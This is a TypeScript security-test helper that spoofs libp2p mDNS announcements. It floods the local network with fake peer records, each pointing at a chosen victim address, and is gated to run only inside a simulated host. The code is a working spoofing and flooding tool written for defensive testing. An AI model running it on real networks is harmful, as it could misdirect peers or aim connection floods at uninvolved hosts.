/**
 * An independent mDNS spoofer for the security tests (issue 17 finding 10), run inside a
 * simulated host: `node mdns-spoofer.js SERVICE_TAG VICTIM_ADDR RATE SECONDS`. It multicasts
 * unsolicited mDNS answers (the libp2p mDNS format: a PTR for the service tag, a TXT
 * `dnsaddr=` record) for RATE fresh peer ids a second, all naming VICTIM_ADDR
 * (`/ip4/IP/tcp/PORT`), a host that runs no procmesh at all. Built from multicast-dns and
 * @libp2p/crypto, not from procmesh's code.
 */
import { generateKeyPair } from '@libp2p/crypto/keys'
import { peerIdFromPrivateKey } from '@libp2p/peer-id'
import makeMdns from 'multicast-dns'

const [serviceTag, victim, rateText, secondsText] = process.argv.slice(2)
const rate = Number(rateText)
const seconds = Number(secondsText)
// `node --test dist/test/` loads every file under test/, this one too: without its arguments and
// the test's go-ahead it must do nothing (above all, never multicast from the machine's own
// network namespace; the test runs it inside a simulated host only)
if (process.env.PROCMESH_MDNS_SPOOFER !== 'in-simulated-host' || serviceTag === undefined || victim === undefined ||
    !(rate > 0) || !(seconds > 0)) {
  if (process.argv.length > 2) process.stderr.write('usage (inside a simulated host, PROCMESH_MDNS_SPOOFER=in-simulated-host): node mdns-spoofer.js SERVICE_TAG VICTIM_ADDR RATE SECONDS\n')
  process.exit(process.argv.length > 2 ? 2 : 0)
}
const mdns = makeMdns()
let sent = 0
const started = Date.now()
const timer = setInterval(() => {
  if (Date.now() - started > seconds * 1000) {
    clearInterval(timer)
    mdns.destroy()
    process.stdout.write(`sent ${sent}\n`)
    return
  }
  for (let i = 0; i < Math.max(1, Math.round(rate / 10)); i++) {
    generateKeyPair('Ed25519').then(key => {
      const id = peerIdFromPrivateKey(key).toString()
      const name = `${id}.${serviceTag}`
      mdns.respond({
        answers: [{ name: serviceTag, type: 'PTR', class: 'IN', ttl: 120, data: name }],
        additionals: [{ name, type: 'TXT', class: 'IN', ttl: 120, data: [`dnsaddr=${victim}/p2p/${id}`] }]
      })
      sent++
    }).catch((err: unknown) => { process.stderr.write(`${String(err)}\n`) })
  }
}, 100)
